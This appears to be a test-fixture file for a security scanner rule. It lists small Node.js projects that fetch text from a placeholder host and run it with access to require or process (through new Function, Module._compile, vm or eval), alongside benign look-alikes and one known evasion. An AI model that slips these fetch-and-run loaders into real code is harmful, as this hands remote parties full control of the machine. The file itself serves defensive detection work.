import type { Examples } from "@doorward/core";

/** Fetched text that is handed access to the computer, and code that only looks like it. */
export const examples: Examples = {
  hits: [
    {
      name: "a function made of an answer that is handed require",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const axios = require("axios");
axios.get("https://api.example/check").then((answer) => {
  const verify = new Function("require", answer.data.message);
  verify(require);
});
`,
      },
    },
    {
      name: "an error handler in another file",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const axios = require("axios");
const { errorHandler } = require("./errors");
axios.post("https://api.example/check").then(() => console.log("ok")).catch((error) => errorHandler(error.response.data));
`,
        "errors.js": `exports.errorHandler = (error) => {
  const make = new Function.constructor("require", error);
  make(require);
};
`,
      },
    },
    {
      name: "a module that is compiled by hand",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const Module = require("module");
fetch("https://api.example/check").then((answer) => answer.text()).then((text) => new Module("x")._compile(text, "x.js"));
`,
      },
    },
    {
      name: "a context that holds require and process",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const vm = require("vm");
fetch("https://api.example/check").then((answer) => answer.text()).then((text) => vm.runInNewContext(text, { require, process, console }));
`,
      },
    },
    {
      name: "a route of a web application",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "scripts": { "dev": "next dev" } }
`,
        "pages/api/session.ts": `import axios from "axios";
export default async function handler(request: unknown, response: { json(x: unknown): void }) {
  const answer = await axios.get("https://api.example/check");
  new Function("require", answer.data.token)(require);
  response.json({});
}
`,
      },
    },
  ],
  misses: [
    {
      name: "a request whose answer is shown",
      why: "The answer is data, and nothing of it is run.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://api.example/check").then((answer) => answer.json()).then((data) => console.log(data.price));
`,
      },
    },
    {
      name: "a compiler that loads another version of itself on request",
      why: "Nothing calls the function until a user of the library asks for a version.",
      files: {
        "package.json": `{ "name": "lib", "version": "1.0.0", "main": "index.js" }
`,
        "index.js": `const https = require("https");
const Module = require("module");
exports.loadVersion = (version, done) => {
  https.get("https://binaries.example/compiler-" + version + ".js", (answer) => {
    let text = "";
    answer.on("data", (part) => { text += part; });
    answer.on("end", () => { const made = new Module(); made._compile(text, version); done(made.exports); });
  });
};
`,
      },
    },
    {
      name: "a function made of a text of the program itself",
      why: "What is run stands in the code and can be read.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const load = new Function("require", "return require('fs')");
load(require).existsSync("package.json");
fetch("https://api.example/check").then((answer) => console.log(answer.status));
`,
      },
    },
    {
      name: "a context without access to anything",
      why: "The code sees a formula's values and nothing of the computer.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const vm = require("vm");
console.log(vm.runInNewContext("a + b", { a: 1, b: 2 }));
`,
      },
    },
  ],
  evasions: [
    {
      name: "an answer that is evaluated where require can be seen",
      caughtBy: "nothing",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://api.example/check").then((answer) => answer.text()).then((text) => eval(text));
`,
      },
    },
  ],
};
